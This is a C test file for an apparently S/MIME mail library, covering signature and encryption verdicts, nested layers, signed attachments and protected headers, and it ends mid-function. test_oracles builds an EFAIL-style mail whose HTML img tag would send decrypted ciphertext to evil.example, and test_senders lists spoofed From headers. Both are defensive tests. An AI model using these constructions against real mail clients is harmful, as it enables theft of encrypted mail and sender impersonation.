/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Whole mails: how their layers come together, and what must not be taken for one. */
#include <glib.h>

#include <signal.h>
#include <string.h>

#include "assuan.h"
#include "envelope.h"
#include "sealing.h"

#define FROM_ALICE "From: Alice <alice@example.org>\r\nSubject: outside\r\n" \
                   "Message-ID: <one@example.org>\r\nMIME-Version: 1.0\r\n"

static Sealing sealing;

static void
assert_opened (const Opened     *opened,
               SignetSignature   signature,
               SignetEncryption  encryption,
               const char       *text)
{
  g_test_message ("%s", signet_verdict_get_sentence (opened->verdict));
  g_assert_cmpstr (signet_signature_to_word (signet_verdict_get_signature (opened->verdict)), ==,
                   signet_signature_to_word (signature));
  g_assert_cmpstr (signet_encryption_to_word (signet_verdict_get_encryption (opened->verdict)), ==,
                   signet_encryption_to_word (encryption));
  g_assert_cmpstr (signet_message_get_text (opened->message), ==, text);
}

static void
assert_verdict (const char       *entity,
                SignetSignature   signature,
                SignetEncryption  encryption,
                const char       *text)
{
  g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, entity);

  assert_opened (&opened, signature, encryption, text);
}

static void
test_signed (void)
{
  g_autofree char *text = sealing_text ("Hello");
  g_autofree char *clear = sealing_sign (&sealing, "alice", text);
  g_autofree char *opaque = sealing_opaque (&sealing, "alice", text);
  g_autofree char *other = sealing_opaque (&sealing, "mallory", text);

  assert_verdict (clear, SIGNET_SIGNATURE_VALID, SIGNET_ENCRYPTION_NONE, "Hello\n");
  assert_verdict (opaque, SIGNET_SIGNATURE_VALID, SIGNET_ENCRYPTION_NONE, "Hello\n");
  assert_verdict (other, SIGNET_SIGNATURE_MISMATCH, SIGNET_ENCRYPTION_NONE, "Hello\n");

  strstr (clear, "Hello")[0] = 'J';
  assert_verdict (clear, SIGNET_SIGNATURE_ALTERED, SIGNET_ENCRYPTION_NONE, "Jello\n");
}

static void
test_encrypted (void)
{
  g_autofree char *text = sealing_text ("Secret");
  g_autofree char *bare = sealing_encrypt (&sealing, "bob", text);
  g_autofree char *gcm = sealing_cms (&sealing, "-encrypt -aes-256-gcm bob.crt", text);
  g_autofree char *several = sealing_cms (&sealing, "-encrypt -aes128 stranger.crt bob.crt", text);
  g_autofree char *untold = sealing_cms (&sealing, "-encrypt -aes256 -keyid bob.crt", text);

  assert_verdict (bare, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_ENCRYPTED, "Secret\n");
  assert_verdict (gcm, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_AUTHENTICATED, "Secret\n");
  assert_verdict (several, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_ENCRYPTED, "Secret\n");
  assert_verdict (untold, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_ENCRYPTED, "Secret\n");
}

/* A cipher whose keys can all be tried is told, and stays what it is for scripts. */
static void
test_weakly_encrypted (void)
{
  static const struct { const char *option; const char *told; } ciphers[] =
  {
    { "-des", "can be broken (DES)" }, { "-rc2-40", "can be broken (RC2)" },
    { "-rc2-128", NULL }, { "-des3", NULL }, { "-aes128", NULL },
  };
  g_autofree char *text = sealing_text ("Secret");

  for (guint i = 0; i < G_N_ELEMENTS (ciphers); i++)
    {
      g_autofree char *options =
        g_strdup_printf ("-encrypt %s -provider legacy -provider default bob.crt", ciphers[i].option);
      g_autofree char *entity = sealing_cms (&sealing, options, text);
      g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, entity);
      const char *sentence = signet_verdict_get_sentence (opened.verdict);

      assert_opened (&opened, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_ENCRYPTED, "Secret\n");
      g_test_message ("%s: %s", ciphers[i].option, sentence);
      if (ciphers[i].told != NULL)
        g_assert_nonnull (strstr (sentence, ciphers[i].told));
      else
        g_assert_null (strstr (sentence, "broken"));
    }
}

static void
test_nested (void)
{
  g_autofree char *text = sealing_text ("Hello");
  g_autofree char *clear = sealing_sign (&sealing, "alice", text);
  g_autofree char *opaque = sealing_opaque (&sealing, "alice", text);
  g_autofree char *clear_inside = sealing_encrypt (&sealing, "bob", clear);
  g_autofree char *opaque_inside = sealing_encrypt (&sealing, "bob", opaque);
  g_autofree char *triple = sealing_sign (&sealing, "alice", opaque_inside);
  g_autofree char *relayed = sealing_sign (&sealing, "mallory", clear_inside);
  g_autofree char *outside = sealing_encrypt (&sealing, "bob", text);
  g_autofree char *signed_outside = sealing_sign (&sealing, "alice", outside);

  assert_verdict (clear_inside, SIGNET_SIGNATURE_VALID, SIGNET_ENCRYPTION_ENCRYPTED, "Hello\n");
  assert_verdict (opaque_inside, SIGNET_SIGNATURE_VALID, SIGNET_ENCRYPTION_ENCRYPTED, "Hello\n");
  assert_verdict (triple, SIGNET_SIGNATURE_VALID, SIGNET_ENCRYPTION_ENCRYPTED, "Hello\n");
  assert_verdict (relayed, SIGNET_SIGNATURE_MISMATCH, SIGNET_ENCRYPTION_ENCRYPTED, "Hello\n");
  assert_verdict (signed_outside, SIGNET_SIGNATURE_PARTLY, SIGNET_ENCRYPTION_ENCRYPTED, "Hello\n");
}

static void
test_closed (void)
{
  g_autofree char *text = sealing_text ("Secret");
  g_autofree char *strange = sealing_encrypt (&sealing, "stranger", text);
  g_autofree char *lost = sealing_encrypt (&sealing, "lost", text);
  g_auto(Opened) not_ours = sealing_open (&sealing, FROM_ALICE, strange);
  g_auto(Opened) no_key = sealing_open (&sealing, FROM_ALICE, lost);

  assert_opened (&not_ours, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_NOT_FOR_US, "");
  g_assert_error (not_ours.error, SIGNET_SMIME_ERROR, SIGNET_SMIME_ERROR_NOT_FOR_US);
  g_assert_cmpint (signet_message_get_body_kind (not_ours.message), ==, SIGNET_BODY_ENCRYPTED);
  assert_opened (&no_key, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_CANNOT_OPEN, "");
  g_assert_error (no_key.error, SIGNET_SMIME_ERROR, SIGNET_SMIME_ERROR_NO_KEY);
  g_assert_cmpstr (signet_verdict_get_sentence (no_key.verdict), ==, no_key.error->message);
}

static void
test_no_keyring (void)
{
  SignetUnsealerTools tools = { .verifier = sealing.verifier, .now = 1 };
  g_autofree char *text = sealing_text ("Secret");
  g_autofree char *bare = sealing_encrypt (&sealing, "bob", text);
  g_auto(Opened) opened = sealing_open_with (&sealing, &tools, FROM_ALICE, bare);

  assert_opened (&opened, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_NOT_FOR_US, "");

  g_autoptr(GError) trouble = g_error_new_literal (SIGNET_SMIME_ERROR, SIGNET_SMIME_ERROR_ENGINE, "No.");
  tools.trouble = trouble;
  g_auto(Opened) troubled = sealing_open_with (&sealing, &tools, FROM_ALICE, bare);
  assert_opened (&troubled, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_CANNOT_OPEN, "");
  g_assert_cmpstr (signet_verdict_get_sentence (troubled.verdict), ==, "No.");
}

/* What is cut off is not called changed or damaged. */
static void
test_beginning (void)
{
  SignetUnsealerTools tools = sealing_tools (&sealing);
  g_autofree char *text = sealing_text ("Hello");
  g_autofree char *clear = sealing_sign (&sealing, "alice", text);
  g_autofree char *bare = sealing_encrypt (&sealing, "bob", text);

  tools.is_beginning = TRUE;
  clear[strlen (clear) / 2] = '\0';
  bare[strlen (bare) / 2] = '\0';
  g_auto(Opened) is_signed = sealing_open_with (&sealing, &tools, FROM_ALICE, clear);
  g_auto(Opened) encrypted = sealing_open_with (&sealing, &tools, FROM_ALICE, bare);
  assert_opened (&is_signed, SIGNET_SIGNATURE_UNKNOWN, SIGNET_ENCRYPTION_NONE, "Hello\n");
  g_assert_nonnull (strstr (signet_verdict_get_sentence (is_signed.verdict), "the rest"));
  assert_opened (&encrypted, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_CANNOT_OPEN, "");
  g_assert_nonnull (strstr (signet_verdict_get_sentence (encrypted.verdict), "the rest"));
}

static void
test_cancelled (void)
{
  SignetUnsealerTools tools = sealing_tools (&sealing);
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autofree char *text = sealing_text ("Secret");
  g_autofree char *bare = sealing_encrypt (&sealing, "bob", text);

  g_cancellable_cancel (cancellable);
  tools.cancellable = cancellable;
  g_auto(Opened) opened = sealing_open_with (&sealing, &tools, FROM_ALICE, bare);
  assert_opened (&opened, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_CANNOT_OPEN, "");
  g_assert_error (opened.error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
}

/* What nobody waits for is not checked to the end, and tells nothing of who signed it. */
static void
test_cancelled_signature (void)
{
  SignetUnsealerTools tools = sealing_tools (&sealing);
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autofree char *text = sealing_text ("Hello");
  g_autofree char *clear = sealing_sign (&sealing, "alice", text);

  g_cancellable_cancel (cancellable);
  tools.cancellable = cancellable;
  g_auto(Opened) opened = sealing_open_with (&sealing, &tools, FROM_ALICE, clear);
  assert_opened (&opened, SIGNET_SIGNATURE_UNKNOWN, SIGNET_ENCRYPTION_NONE, "Hello\n");
  g_assert_cmpuint (signet_verdict_get_signers (opened.verdict)->len, ==, 0);
}

/* Opening in a thread, while the main thread is asked for the passphrase. */
typedef struct
{
  const char *entity;
  Opened      opened;
  GMainLoop  *loop;
} Opening;

static gboolean
quit_cb (gpointer loop)
{
  g_main_loop_quit (loop);
  return G_SOURCE_REMOVE;
}

static gpointer
open_thread (gpointer data)
{
  Opening *self = data;

  self->opened = sealing_open (&sealing, FROM_ALICE, self->entity);
  g_idle_add (quit_cb, self->loop);
  return NULL;
}

/* Instead of an answer. */
static void
kill_agent_cb (SignetPassphraseQuestion *question,
               gpointer                  data)
{
  g_autofree char *socket = signet_keyring_start_agent (sealing.keyring, NULL, NULL);
  g_autoptr(SignetAssuan) agent = signet_assuan_connect (socket, NULL, NULL);
  guint code;
  g_autoptr(GBytes) pid = signet_assuan_transact (agent, "GETINFO pid", NULL, NULL, &code, NULL, NULL);
  gsize size;
  const char *digits = g_bytes_get_data (pid, &size);
  g_autofree char *text = g_strndup (digits, size);

  g_assert_cmpint (kill ((pid_t) g_ascii_strtoll (text, NULL, 10), SIGKILL), ==, 0);
}

/* The agent dies while it is at work: a sentence, and the next time another one does it. */
static void
test_killed_agent (void)
{
  g_autofree char *text = sealing_text ("Secret");
  g_autofree char *bare = sealing_encrypt (&sealing, "bob", text);
  Opening opening = { .entity = bare, .loop = g_main_loop_new (NULL, FALSE) };
  g_autoptr(GError) error = NULL;
  GThread *thread;

  /* So that it has forgotten the passphrase. */
  signet_keyring_set_asking (sealing.keyring, SIGNET_KEYRING_ASKS_ONCE, &error);
  g_assert_no_error (error);
  signet_passphrases_give (sealing.passphrases, NULL);
  signet_passphrases_set_ask (sealing.passphrases, kill_agent_cb, NULL);
  thread = g_thread_new ("open", open_thread, &opening);
  g_main_loop_run (opening.loop);
  g_thread_join (thread);
  assert_opened (&opening.opened, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_CANNOT_OPEN, "");
  g_assert_error (opening.opened.error, SIGNET_SMIME_ERROR, SIGNET_SMIME_ERROR_AGENT);
  opened_clear (&opening.opened);
  g_main_loop_unref (opening.loop);

  signet_passphrases_set_ask (sealing.passphrases, NULL, NULL);
  signet_passphrases_give (sealing.passphrases, "passphrase");
  assert_verdict (bare, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_ENCRYPTED, "Secret\n");
}

static char *
mix (const char *first,
     const char *second,
     const char *third)
{
  return g_strdup_printf ("Content-Type: multipart/mixed; boundary=MIX\r\n\r\n--MIX\r\n%s\r\n--MIX\r\n%s"
                          "\r\n--MIX\r\n%s\r\n--MIX--\r\n", first, second, third);
}

static void
test_partly (void)
{
  g_autofree char *text = sealing_text ("Signed");
  g_autofree char *before = sealing_text ("Before");
  g_autofree char *footer = sealing_text ("Footer");
  g_autofree char *clear = sealing_sign (&sealing, "alice", text);
  g_autofree char *list = mix (before, clear, footer);
  g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, list);
  GPtrArray *sections = signet_message_get_sections (opened.message);

  assert_opened (&opened, SIGNET_SIGNATURE_PARTLY, SIGNET_ENCRYPTION_NONE,
                 "Before\n\nSigned\n\nFooter\n");
  g_assert_cmpuint (opened.frames->len, ==, 1);
  g_assert_cmpint (signet_verdict_get_signature (opened.frames->pdata[0]), ==, SIGNET_SIGNATURE_VALID);
  g_assert_cmpint (signet_section_get_frame (sections->pdata[0]), ==, SIGNET_SECTION_NO_FRAME);
  g_assert_cmpint (signet_section_get_frame (sections->pdata[1]), ==, 0);
  g_assert_cmpint (signet_section_get_frame (sections->pdata[2]), ==, SIGNET_SECTION_NO_FRAME);

  /* Even where the whole is encrypted, or signed by somebody else around it. */
  g_autofree char *sealed = sealing_encrypt (&sealing, "bob", list);
  assert_verdict (sealed, SIGNET_SIGNATURE_PARTLY, SIGNET_ENCRYPTION_ENCRYPTED,
                  "Before\n\nSigned\n\nFooter\n");
}

/* Ciphertext of somebody else's, put among other parts to be quoted in an answer, or between the halves
 * of a document that sends it away. */
static void
test_oracles (void)
{
  g_autofree char *text = sealing_text ("Secret");
  g_autofree char *stolen = sealing_encrypt (&sealing, "bob", text);
  g_autofree char *before = g_strdup ("Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/");
  g_autofree char *after = g_strdup ("Content-Type: text/html\r\n\r\n\">");
  g_autofree char *exfiltration = mix (before, stolen, after);
  g_autofree char *hello = sealing_text ("Please answer");
  g_autofree char *nothing = sealing_text ("");
  g_autofree char *reply = mix (hello, nothing, stolen);
  g_autofree char *alone = g_strdup_printf ("Content-Type: multipart/mixed; boundary=MIX\r\n\r\n--MIX\r\n"
                                            "%s\r\n--MIX--\r\n", stolen);
  g_autofree char *signed_mix = sealing_sign (&sealing, "alice", reply);
  char *const mails[] = { exfiltration, reply, alone, signed_mix };

  for (guint i = 0; i < G_N_ELEMENTS (mails); i++)
    {
      g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, mails[i]);
      GPtrArray *sections = signet_message_get_sections (opened.message);
      guint n_sealed = 0;

      g_assert_null (strstr (signet_message_get_text (opened.message), "Secret"));
      g_assert_nonnull (strstr (signet_verdict_get_sentence (opened.verdict), "stays closed"));
      g_assert_cmpint (signet_verdict_get_encryption (opened.verdict), ==, SIGNET_ENCRYPTION_NONE);
      for (guint j = 0; j < sections->len; j++)
        n_sealed += signet_section_get_kind (sections->pdata[j]) == SIGNET_SECTION_SEALED;
      g_assert_cmpuint (n_sealed, ==, 1);
    }

  /* The same when it comes encrypted. */
  g_autofree char *wrapped = sealing_encrypt (&sealing, "bob", reply);
  g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, wrapped);
  g_assert_null (strstr (signet_message_get_text (opened.message), "Secret"));
}

static void
test_senders (void)
{
  static const char *const headers[] =
  {
    "From: alice@example.org\r\nFrom: mallory@evil.example\r\n",
    "From: mallory@evil.example\r\nFrom: alice@example.org\r\n",
    "From: alice@example.org, mallory@evil.example\r\n",
    "From: Friends: alice@example.org;\r\n",
    "From: alice@example.org <mallory@evil.example>\r\n",
    "From: \"alice@example.org\"\r\n",
    "From: mallory@evil.example (alice@example.org)\r\n",
    "From: =?utf-8?q?alice=40example=2Eorg?= <mallory@evil.example>\r\n",
    "From: ali\xE2\x80\x8B" "ce@example.org.evil.example\r\n",
    "Sender: alice@example.org\r\nFrom: mallory@evil.example\r\n",
    "Subject: nobody\r\n",
  };
  g_autofree char *text = sealing_text ("Hello");
  g_autofree char *clear = sealing_sign (&sealing, "alice", text);

  for (guint i = 0; i < G_N_ELEMENTS (headers); i++)
    {
      g_auto(Opened) opened = sealing_open (&sealing, headers[i], clear);

      assert_opened (&opened, SIGNET_SIGNATURE_MISMATCH, SIGNET_ENCRYPTION_NONE, "Hello\n");
    }
}

/* The list reads its beginning only, where somebody else may stand. */
static void
test_long_sender (void)
{
  g_autofree char *blank = g_strnfill (SIGNET_ENVELOPE_MAX_FROM, ' ');
  g_autofree char *header = g_strconcat ("From: \"bob@example.org", blank, "\" <alice@example.org>\r\n",
                                         NULL);
  g_autofree char *text = sealing_text ("Hello");
  g_autofree char *clear = sealing_sign (&sealing, "alice", text);
  g_auto(Opened) opened = sealing_open (&sealing, header, clear);
  g_autofree char *mail = g_strconcat (header, clear, NULL);
  g_autoptr(SignetEnvelope) envelope = signet_envelope_parse (mail, strlen (mail));

  g_assert_cmpstr (signet_envelope_get_address (envelope), !=, "alice@example.org");
  assert_opened (&opened, SIGNET_SIGNATURE_MISMATCH, SIGNET_ENCRYPTION_NONE, "Hello\n");
}

static void
test_broken (void)
{
  g_autofree char *text = sealing_text ("Hello");
  g_autofree char *clear = sealing_sign (&sealing, "alice", text);
  char *signature = strstr (clear, "MII");

  g_assert_nonnull (signature);
  memset (signature, 'A', 8);
  assert_verdict (clear, SIGNET_SIGNATURE_UNKNOWN, SIGNET_ENCRYPTION_NONE, "Hello\n");

  assert_verdict ("Content-Type: multipart/signed; boundary=S; protocol=\"application/pgp-signature\"\r\n"
                  "\r\n--S\r\n\r\nHello\r\n--S\r\nContent-Type: application/pgp-signature\r\n\r\nx\r\n"
                  "--S--\r\n", SIGNET_SIGNATURE_UNKNOWN, SIGNET_ENCRYPTION_NONE, "Hello\n");
  assert_verdict ("Content-Type: multipart/signed; boundary=S; protocol=\"application/pkcs7-signature\""
                  "\r\n\r\n--S\r\n\r\nHello\r\n--S--\r\n", SIGNET_SIGNATURE_UNKNOWN,
                  SIGNET_ENCRYPTION_NONE, "Hello\n");
}

/* A third part would be shown, and nobody signed it. */
static void
test_added_part (void)
{
  g_autofree char *text = sealing_text ("Hello");
  g_autofree char *clear = sealing_sign (&sealing, "alice", text);
  char *last = g_strrstr (clear, "\n------");

  g_assert_nonnull (last);
  g_autofree char *boundary = g_strndup (last + 1, strcspn (last + 1, "\r\n") - 2);
  g_autofree char *begin = g_strndup (clear, (gsize) (last + 1 - clear));
  g_autofree char *added = g_strdup_printf ("%s%s\r\n\r\nAdded\r\n%s--\r\n", begin, boundary, boundary);

  assert_verdict (added, SIGNET_SIGNATURE_UNKNOWN, SIGNET_ENCRYPTION_NONE, "Hello\n\nAdded\n");
}

/* In what nobody signed of a signature there is room for a document. */
static void
test_shown_signature (void)
{
  static const struct { const char *type; SignetSignature signature; guint n_attachments; } cases[] =
  {
    { "application/x-pkcs7-signature; name=smime.p7s", SIGNET_SIGNATURE_VALID, 0 },
    { "application/octet-stream; name=smime.p7s", SIGNET_SIGNATURE_VALID, 0 },
    { "application/octet-stream\r\nContent-Disposition: attachment; filename=\"smime.p7s\"",
      SIGNET_SIGNATURE_VALID, 0 },
    { "application/octet-stream; name=contract.doc", SIGNET_SIGNATURE_UNKNOWN, 1 },
    { "application/pdf; name=smime.p7s", SIGNET_SIGNATURE_UNKNOWN, 1 },
    { "text/html; name=smime.p7s", SIGNET_SIGNATURE_UNKNOWN, 1 },
  };
  g_autofree char *text = sealing_text ("Hello");
  g_autofree char *clear = sealing_sign (&sealing, "alice", text);
  const char *type = g_strrstr (clear, "application/");

  g_assert_nonnull (type);
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *begin = g_strndup (clear, (gsize) (type - clear));
      g_autofree char *mail = g_strconcat (begin, cases[i].type, strchr (type, '\r'), NULL);
      g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, mail);

      g_assert_cmpint (signet_verdict_get_signature (opened.verdict), ==, cases[i].signature);
      g_assert_cmpuint (signet_message_get_attachments (opened.message)->len, ==, cases[i].n_attachments);
    }
}

static void
test_certificates_only (void)
{
  g_assert_true (test_openssl_run (&sealing.openssl, "crl2pkcs7 -nocrl -certfile alice.crt -out p7"));
  g_autoptr(GBytes) pem = test_openssl_read (&sealing.openssl, "p7");
  g_auto(GStrv) lines = g_strsplit (g_bytes_get_data (pem, NULL), "-----", -1);
  g_autofree char *entity
    = g_strdup_printf ("Content-Type: application/pkcs7-mime; name=smime.p7c\r\n"
                       "Content-Transfer-Encoding: base64\r\n\r\n%s", lines[2]);
  g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, entity);

  assert_opened (&opened, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_NONE, "");
  g_assert_cmpstr (signet_verdict_get_sentence (opened.verdict), ==,
                   "This brings certificates, and no message.");
}

/* Returns: (transfer full). */
static char *
make_file_part (const char   *name,
                const guint8 *bytes,
                gsize         length)
{
  g_autofree char *base64 = g_base64_encode (bytes, length);

  return g_strdup_printf ("Content-Type: application/pkcs7-mime; name=\"%s\"\r\n"
                          "Content-Transfer-Encoding: base64\r\n"
                          "Content-Disposition: attachment; filename=\"%s\"\r\n\r\n%s\r\n",
                          name, name, base64);
}

/* A contract, or an invoice in XML, that was signed as a file, with that name. */
static char *
make_signed_file (const char *name,
                  const char *content,
                  gsize       length)
{
  g_autoptr(GBytes) bytes = g_bytes_new (content, length);
  g_autoptr(GBytes) der = NULL;

  test_openssl_write (&sealing.openssl, "file", bytes);
  g_assert_true (test_openssl_run (&sealing.openssl, "cms -sign -binary -nodetach -in file -signer alice.crt"
                                   " -inkey alice.key -outform DER -out file.p7m"));
  der = test_openssl_read (&sealing.openssl, "file.p7m");
  return make_file_part (name, g_bytes_get_data (der, NULL), g_bytes_get_size (der));
}

/* Beside a text it is a file, with its signature, and nothing that is read. */
static void
test_signed_file (void)
{
  static const char pdf[] = "%PDF-1.4\n\0\1\2\3 not a text\n";
  static const char xml[] = "<?xml version=\"1.0\"?>\n<invoice/>\n";
  g_autofree char *contract = make_signed_file ("contract.pdf.p7m", pdf, sizeof pdf - 1);
  g_autofree char *invoice = make_signed_file ("invoice.xml.p7m", xml, sizeof xml - 1);
  g_autofree char *nameless = make_signed_file ("smime.p7m", pdf, sizeof pdf - 1);
  g_autofree char *text = sealing_text ("Here it is.");
  char *const files[] = { contract, invoice, nameless };
  static const char *const names[] = { "contract.pdf.p7m", "invoice.xml.p7m", "smime.p7m" };

  for (guint i = 0; i < G_N_ELEMENTS (files); i++)
    {
      g_autofree char *mail = mix (text, files[i], text);
      g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, mail);
      GPtrArray *parts = signet_message_get_attachments (opened.message);

      assert_opened (&opened, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_NONE,
                     "Here it is.\n\nHere it is.\n");
      g_assert_cmpuint (parts->len, ==, 1);
      g_assert_cmpstr (signet_part_get_name (parts->pdata[0]), ==, names[i]);
    }

  /* Alone, as when that file is opened, it is what was signed, and the file itself. */
  g_auto(Opened) alone = sealing_open (&sealing, FROM_ALICE, contract);
  GPtrArray *parts = signet_message_get_attachments (alone.message);
  g_autoptr(GBytes) found = NULL;

  assert_opened (&alone, SIGNET_SIGNATURE_VALID, SIGNET_ENCRYPTION_NONE, "");
  g_assert_cmpuint (parts->len, ==, 2);
  g_assert_cmpstr (signet_part_get_name (parts->pdata[0]), ==, "contract.pdf");
  g_assert_cmpstr (signet_part_get_name (parts->pdata[1]), ==, "contract.pdf.p7m");
  found = signet_part_dup_bytes (parts->pdata[0], G_MAXSIZE);
  g_assert_cmpmem (g_bytes_get_data (found, NULL), g_bytes_get_size (found), pdf, sizeof pdf - 1);

  g_autofree char *encoded = make_signed_file ("=?utf-8?q?Vertr=C3=A4ge.pdf.p7m?=", pdf, sizeof pdf - 1);
  g_auto(Opened) encoded_alone = sealing_open (&sealing, FROM_ALICE, encoded);
  parts = signet_message_get_attachments (encoded_alone.message);
  g_assert_cmpuint (parts->len, ==, 2);
  g_assert_cmpstr (signet_part_get_name (parts->pdata[0]), ==, "Verträge.pdf");

  g_auto(Opened) text_alone = sealing_open (&sealing, FROM_ALICE, invoice);
  parts = signet_message_get_attachments (text_alone.message);
  assert_opened (&text_alone, SIGNET_SIGNATURE_VALID, SIGNET_ENCRYPTION_NONE, "");
  g_assert_cmpuint (parts->len, ==, 2);
  g_assert_cmpstr (signet_part_get_name (parts->pdata[0]), ==, "invoice.xml");
}

/* Some programs write what they sign in base64 or as PEM, and it is encoded once more when it is attached. */
static void
test_encoded_file (void)
{
  static const char pdf[] = "%PDF-1.4\n\0\1\2\3 not a text\n";
  static const char *const begins[] = { "", "-----BEGIN PKCS7-----\n" };
  g_autofree char *unused = make_signed_file ("contract.pdf.p7m", pdf, sizeof pdf - 1);
  g_autoptr(GBytes) der = test_openssl_read (&sealing.openssl, "file.p7m");
  g_autofree char *base64 = g_base64_encode (g_bytes_get_data (der, NULL), g_bytes_get_size (der));
  g_autofree char *text = sealing_text ("Here it is.");

  for (guint i = 0; i < G_N_ELEMENTS (begins); i++)
    {
      g_autofree char *content = g_strconcat (begins[i], base64, "\n", NULL);
      g_autofree char *file = make_file_part ("contract.pdf.p7m", (const guint8 *) content, strlen (content));
      g_autofree char *mail = mix (text, file, text);
      g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, mail);
      g_auto(Opened) alone = sealing_open (&sealing, FROM_ALICE, file);
      GPtrArray *parts = signet_message_get_attachments (opened.message);

      assert_opened (&opened, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_NONE,
                     "Here it is.\n\nHere it is.\n");
      g_assert_false (signet_verdict_is_told (opened.verdict));
      g_assert_cmpuint (parts->len, ==, 1);
      assert_opened (&alone, SIGNET_SIGNATURE_VALID, SIGNET_ENCRYPTION_NONE, "");
      parts = signet_message_get_attachments (alone.message);
      g_assert_cmpuint (parts->len, ==, 2);
      g_assert_cmpstr (signet_part_get_name (parts->pdata[0]), ==, "contract.pdf");
    }
}

/* The signature of a file without the file says nothing of the mail, and is not damaged. */
static void
test_signature_file (void)
{
  g_autofree char *unused = make_signed_file ("contract.pdf.p7m", "file", strlen ("file"));
  g_autofree char *text = sealing_text ("Here it is.");
  g_autoptr(GBytes) der = NULL;

  g_assert_true (test_openssl_run (&sealing.openssl, "cms -sign -binary -in file -signer alice.crt"
                                   " -inkey alice.key -outform DER -out file.p7m"));
  der = test_openssl_read (&sealing.openssl, "file.p7m");
  g_autofree char *file = make_file_part ("contract.pdf.p7m", g_bytes_get_data (der, NULL),
                                          g_bytes_get_size (der));
  g_autofree char *mail = mix (text, file, text);
  g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, mail);

  assert_opened (&opened, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_NONE, "Here it is.\n\nHere it is.\n");
  g_assert_false (signet_verdict_is_told (opened.verdict));
  g_assert_cmpuint (signet_message_get_attachments (opened.message)->len, ==, 1);
}

/* One changed block of ciphertext is one block of noise in the text. */
static void
test_damaged (void)
{
  g_autofree char *html = g_strdup_printf ("Content-Type: text/html\r\n\r\n<p>%s</p>\r\n",
                                           "A text that is some blocks long, so that one in the middle "
                                           "can be changed without taking the padding along.");
  g_autofree char *sealed = sealing_cms (&sealing, "-encrypt -aes256 -outform DER bob.crt", html);
  g_autoptr(GBytes) bytes = test_openssl_read (&sealing.openssl, "out");
  gsize length = g_bytes_get_size (bytes);
  g_autofree guint8 *copy = g_memdup2 (g_bytes_get_data (bytes, NULL), length);

  copy[length - 70] ^= 1;
  g_autofree char *base64 = g_base64_encode (copy, length);
  g_autofree char *entity
    = g_strdup_printf ("Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n"
                       "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n", base64);
  g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, entity);
  GPtrArray *sections = signet_message_get_sections (opened.message);

  g_assert_cmpint (signet_verdict_get_encryption (opened.verdict), ==, SIGNET_ENCRYPTION_DAMAGED);
  g_assert_true (signet_verdict_is_decrypted (opened.verdict));
  for (guint i = 0; i < sections->len; i++)
    g_assert_cmpint (signet_section_get_kind (sections->pdata[i]), ==, SIGNET_SECTION_TEXT);
}

static char *
protect (const char *form,
         const char *fields)
{
  return g_strdup_printf ("Content-Type: text/plain; charset=utf-8; %s\r\n%s\r\nHello\r\n", form, fields);
}

static void
assert_header (const char      *entity,
               const char      *from,
               const char      *subject,
               SignetSignature  signature)
{
  g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, entity);
  SignetAddress *sender = signet_message_get_from (opened.message);

  g_test_message ("%s", signet_verdict_get_sentence (opened.verdict));
  g_assert_cmpstr (signet_address_get_address (sender), ==, from);
  g_assert_cmpstr (signet_message_get_subject (opened.message), ==, subject);
  g_assert_cmpint (signet_verdict_get_signature (opened.verdict), ==, signature);
}

static void
test_protected_header (void)
{
  g_autofree char *inside = protect ("hp=cipher", "From: alice@example.org\r\nSubject: inside\r\n");
  g_autofree char *clear = protect ("hp=clear", "From: alice@example.org\r\nSubject: inside\r\n");
  g_autofree char *is_signed = sealing_sign (&sealing, "alice", clear);
  g_autofree char *encrypted = sealing_encrypt (&sealing, "bob", inside);
  g_autofree char *both = sealing_opaque (&sealing, "alice", inside);
  g_autofree char *sealed = sealing_encrypt (&sealing, "bob", both);

  assert_header (is_signed, "alice@example.org", "inside", SIGNET_SIGNATURE_VALID);
  assert_header (encrypted, "alice@example.org", "inside", SIGNET_SIGNATURE_NONE);
  assert_header (sealed, "alice@example.org", "inside", SIGNET_SIGNATURE_VALID);

  /* Changed, it is no better than what stands outside. */
  strstr (is_signed, "Hello")[0] = 'J';
  assert_header (is_signed, "alice@example.org", "outside", SIGNET_SIGNATURE_ALTERED);
}

/* A sender inside is only shown if he stands outside too, where the list finds him. */
static void
test_protected_sender (void)
{
  g_autofree char *mallory = protect ("hp=cipher", "From: mallory@evil.example\r\nSubject: inside\r\n");
  g_autofree char *by_alice = sealing_sign (&sealing, "alice", mallory);
  g_autofree char *by_mallory = sealing_sign (&sealing, "mallory", mallory);
